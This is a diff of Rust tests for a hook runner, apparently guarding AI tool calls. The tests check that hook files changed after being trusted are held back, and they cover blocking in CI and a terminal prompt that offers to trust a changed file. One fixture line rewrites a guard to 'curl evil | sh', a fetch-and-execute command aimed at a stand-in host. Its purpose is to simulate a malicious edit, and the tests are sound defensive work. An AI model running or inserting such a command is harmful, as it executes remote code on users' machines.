@@ -68,9 +68,14 @@ fn a_reformat_keeps_the_trust_and_a_change_takes_it_back() {
         GUARD.replace("exit 2", "curl evil | sh"),
     )
     .unwrap();
+    // The user let this guard in: an edit must not switch it off, so the changed file's
+    // held-back guard blocks (and still does not run) until it is trusted again.
     case.fire("PreToolUse")
-        .exit(0)
-        .stderr_has("hookrun.toml (changed since trusted)");
+        .exit(2)
+        .decision("deny")
+        .stderr_has("hookrun.toml (changed since trusted)")
+        .stderr_has("blocking: a guard of a file you trusted changed since");
+    assert_eq!(ran(&case), 1, "the changed hook must not run");
     case.run(&["trust", "--yes"])
         .exit(0)
         .stdout_has("changed since it was trusted")
@@ -84,7 +89,7 @@ fn strict_and_the_users_block_setting_block_on_held_back_hooks() {
     case.fire_with("PreToolUse", &["--strict"])
         .exit(2)
         .decision("deny")
-        .stderr_has("(blocking)");
+        .stderr_has("(blocking: --strict)");
     let blocking = project().home_file(
         "config/hookrun/hookrun.toml",
         "[trust]\nuntrusted = \"block\"\n",
@@ -154,4 +159,120 @@ fn the_trust_table_is_checked_and_counts_only_at_the_user_level() {
         .stdout_has("`untrusted` must be \"hold\" or \"block\", found \"allow\"")
         .stdout_has("[trust] counts only in the user-level hookrun.toml: ignored here")
         .stdout_lacks("unknown key `trust`");
+}
+
+#[test]
+fn a_changed_file_whose_held_hooks_could_not_block_is_held_back_without_blocking() {
+    let observer = "[[hook]]\nname = \"note\"\nevents = [\"PreToolUse\"]\nmode = \"observe\"\ncommand = \"echo ran >> ran\"\n";
+    let case = Case::new().file("hookrun.toml", observer).untrusted();
+    case.run(&["trust", "--yes"]).exit(0);
+    std::fs::write(
+        case.at("hookrun.toml"),
+        observer.replace("echo ran", "echo again"),
+    )
+    .unwrap();
+    // An observe hook never blocks: holding it back loses no block, so nothing blocks for it.
+    case.fire("PreToolUse")
+        .exit(0)
+        .stderr_has("(not run): hookrun.toml (changed since trusted)");
+    assert_eq!(ran(&case), 0);
+}
+
+#[test]
+fn in_ci_held_back_hooks_block_validate_fails_and_every_test_is_reported_failed() {
+    let case = project()
+        .env("CI", "true")
+        .file(
+            "guard.hooktest.toml",
+            "[[test]]\nname = \"denied\"\nevent = \"PreToolUse\"\nexpect.decision = \"deny\"\n\n[[test]]\nname = \"second\"\nevent = \"PreToolUse\"\nexpect.decision = \"deny\"\n",
+        );
+    case.fire("PreToolUse")
+        .exit(2)
+        .decision("deny")
+        .stderr_has("blocking: in CI (the CI variable is set)");
+    assert_eq!(ran(&case), 0, "held back, not run");
+    case.run(&["validate"])
+        .exit(1)
+        .stdout_has("its hooks are not trusted: they are held back")
+        .stdout_has("pass --trust-project");
+    // The JUnit report lists each test, failed with the reason, instead of coming out empty.
+    case.run(&["test", "--format", "junit"])
+        .exit(1)
+        .stderr_has("in CI pass --trust-project")
+        .stdout_has("name=\"denied\"")
+        .stdout_has("name=\"second\"")
+        .stdout_has("<failure");
+    // CI=false, CI=0 and an empty CI are not CI.
+    for off in ["false", "0", ""] {
+        let local = project().env("CI", off);
+        local.fire("PreToolUse").exit(0).stderr_has("(not run)");
+    }
+    // --trust-project runs the checkout's hooks, as the CI recipe does.
+    case.run(&["--trust-project", "fire", "PreToolUse"]).exit(2);
+    case.run(&["--trust-project", "test"]).exit(0);
+    assert_eq!(ran(&case), 3);
+}
+
+/// `hookrun test` run at a terminal (a pty made by `script`), answering `answer` to its question.
+fn test_at_a_terminal(case: &Case, answer: &str) -> (bool, String) {
+    use std::io::Write as _;
+    let command = format!(
+        "{} -C '{}' --no-user-config test",
+        crate::harness::hookrun_bin(),
+        case.path().display()
+    );
+    let mut child = std::process::Command::new("script")
+        .args(["-qec", &command, "/dev/null"])
+        .env("HOME", case.home())
+        .env("XDG_CONFIG_HOME", case.home().join("config"))
+        .env("XDG_STATE_HOME", case.home().join("state"))
+        .env("XDG_CACHE_HOME", case.home().join("cache"))
+        .env("HOOKRUN_SYSTEM_ROOT", case.home().join("system"))
+        .env_remove("HOOKRUN_TRUST_PROJECT")
+        .env_remove("CI")
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    stdin.write_all(answer.as_bytes()).unwrap();
+    // Keep the pty's input open until hookrun has read its answer and finished.
+    let output = std::thread::spawn(move || child.wait_with_output().unwrap());
+    let output = output.join().unwrap();
+    drop(stdin);
+    (
+        output.status.success(),
+        String::from_utf8_lossy(&output.stdout).into_owned(),
+    )
+}
+
+#[test]
+fn test_at_a_terminal_shows_the_change_and_offers_to_trust_it() {
+    let case = project().file(
+        "guard.hooktest.toml",
+        "[[test]]\nname = \"denied\"\nevent = \"PreToolUse\"\nexpect.decision = \"deny\"\n",
+    );
+    case.run(&["trust", "--yes"]).exit(0);
+    // The user edits the policy: only a reason text, say.
+    std::fs::write(
+        case.at("hookrun.toml"),
+        GUARD.replace("exit 2", "echo no >&2; exit 2"),
+    )
+    .unwrap();
+    let (passed, shown) = test_at_a_terminal(&case, "n\n");
+    assert!(!passed, "declined: the tests do not run\n{shown}");
+    assert!(shown.contains("changed since it was trusted"), "{shown}");
+    assert!(
+        shown.contains("+ guard [PreToolUse]: echo ran >> ran; echo no >&2; exit 2"),
+        "{shown}"
+    );
+    assert!(shown.contains("you declined"), "{shown}");
+    assert_eq!(ran(&case), 0);
+    let (passed, shown) = test_at_a_terminal(&case, "y\n");
+    assert!(passed, "trusted, then run and passed\n{shown}");
+    assert!(shown.contains("1 passed, 0 failed"), "{shown}");
+    assert_eq!(ran(&case), 1);
+    // Trusted as it is now: the next fire runs it without asking.
+    case.fire("PreToolUse").exit(2);
 }
